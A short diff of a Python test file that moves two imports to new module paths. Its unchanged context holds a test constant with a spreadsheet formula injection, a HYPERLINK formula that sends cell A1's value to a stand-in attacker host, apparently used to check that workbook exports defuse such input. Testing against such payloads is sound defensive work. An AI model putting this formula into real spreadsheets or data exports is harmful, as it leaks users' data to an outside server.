@@ -8,8 +8,8 @@ import io
 import pytest
 from openpyxl import load_workbook
 
-from core.loader import load_plan
-from core.storage import Store
+from core.plan.loader import load_plan
+from core.store import Store
 from tests.browser.conftest import running, wait_idle
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"klikkaa")'
